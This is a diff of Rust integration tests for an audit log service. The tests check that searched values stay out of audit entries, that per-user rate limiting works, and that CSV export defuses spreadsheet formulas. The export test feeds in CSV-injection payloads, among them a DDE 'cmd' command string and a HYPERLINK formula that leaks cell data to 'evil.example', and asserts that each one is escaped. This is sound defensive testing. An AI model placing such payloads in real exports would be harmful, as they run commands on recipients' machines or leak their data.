@@ -238,33 +238,84 @@ for_each_database!(an_export_holds_what_was_searched_and_the_head, |desk| async 
          \"rider\",\"7\",\"R7\",1,2,,"
     ), "{}", table[1]);
     assert!(table[3].starts_with("\"head\",") && table[3].contains(&last.head().to_string()));
-    // Both stand in the log, with what was searched for.
+    // Both stand in the log, with the fields that were searched by, and not what stood in them.
     let page = ada.get("/audit?what=exported").await;
     page.says("2 found").says("staff 6 (D6)").says("Exported the log");
-    page.says(&format!("show=all&task={task}"));
+    page.says(r#""form":"csv","shown":"events","fields":"task""#).hides(&format!("task={task}"));
     site.close().await;
 });
 
 #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn whoever_searches_without_end_waits_and_nobody_else() {
+    let site = Site::open().await;
+    let mut ada = Browser::enter(&site, &AUDITOR).await;
+    for _ in 0..30 {
+        ada.get("/audit?task=T10001").await.is(200);
+    }
+    let page = ada.get("/audit?task=T10001").await;
+    page.is(429).says("TOO_MANY");
+    assert_eq!(page.headers[header::RETRY_AFTER], "1");
+    Browser::enter(&site, &ADMIN).await.get("/audit").await.is(200);
+    ada.get("/board").await.is(200);
+    site.desk.advance_ms(100).await;
+    ada.get("/audit").await.is(200);
+    ada.get("/audit").await.is(429);
+    site.close().await;
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
 async fn no_text_in_an_export_is_a_formula() {
     let site = Site::open().await;
-    // What comes from outside: the name of a source, the reason that a script gives, the detail.
-    site.desk
-        .sql(
-            "INSERT INTO dispatch_event (number, event_id, kind, subject, region_id, action, actor_kind, actor_id, \
-             reason, occurred_at, detail_version, detail) VALUES \
-             (1, '+e', 'admin', -5, 1, '=cmd|x', 'intake', '@sum(1)', '＝1+1', 1796011200000, 1, '-\"1\"'); \
-             UPDATE event_counter SET number = 1",
-            "",
+    // What comes from outside: the name of a source, the reason that a script gives, the detail; each of these in each.
+    let payloads = [
+        "=cmd|' /C calc'!A0",
+        "+1+1",
+        "-2+3",
+        "@SUM(1+1)",
+        "\t=1",
+        "\r=1",
+        "\n=1",
+        "＝1+1",
+        "＋1",
+        "－1",
+        "＠sum(1)",
+        "=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")",
+    ];
+    let rows: Vec<_> = (1..).zip(payloads).map(|(number, text)| {
+        let text = format!("'{}'", text.replace('\'', "''"));
+        format!(
+            "({number}, {text}, 'admin', -5, 1, {text}, 'intake', {text}, {text}, {text}, 1796011200000, 1, {text})"
         )
-        .await;
+    }).collect();
+    let insert = format!(
+        "INSERT INTO dispatch_event (number, event_id, kind, subject, region_id, action, actor_kind, actor_id, reason, \
+         key_hash, occurred_at, detail_version, detail) VALUES {}; UPDATE event_counter SET number = 12",
+        rows.join(", ")
+    );
+    site.desk.sql(&insert, "").await;
     let mut ada = Browser::enter(&site, &AUDITOR).await;
     let file = ada.get("/audit/export.csv").await;
-    let row = file.html.split("\r\n").find(|row| row.starts_with("\"event\",1,")).unwrap();
-    for cell in ["\"'+e\"", "\"'=cmd|x\"", "\"'@sum(1)\"", "\"'＝1+1\"", "\"'-\"\"1\"\"\"", ",-5,"]
-    {
-        assert!(row.contains(cell), "{cell} is not in {row}");
+    // RFC 4180, as another program reads it.
+    let text = file.html.strip_prefix('\u{feff}').expect("it says that it is UTF-8");
+    let mut reader = csv::Reader::from_reader(text.as_bytes());
+    let mut carried = [0; 12];
+    for record in reader.records() {
+        for cell in &record.expect("a row") {
+            let is_number = cell.parse::<i64>().is_ok();
+            let first = cell.chars().next().unwrap_or(' ');
+            assert!(
+                is_number || !"=+-@\t\r\n＝＋－＠".contains(first),
+                "{cell:?} would be worked out"
+            );
+            for (count, payload) in carried.iter_mut().zip(payloads) {
+                *count += usize::from(cell.strip_prefix('\'') == Some(payload));
+            }
+        }
     }
+    assert!(carried.iter().all(|count| *count >= 5), "each in each text column: {carried:?}");
+    // A number is one, and stands bare.
+    assert!(text.contains(",-5,"));
+    site.close().await;
 }
 
 /// A log that no socket holds at once.
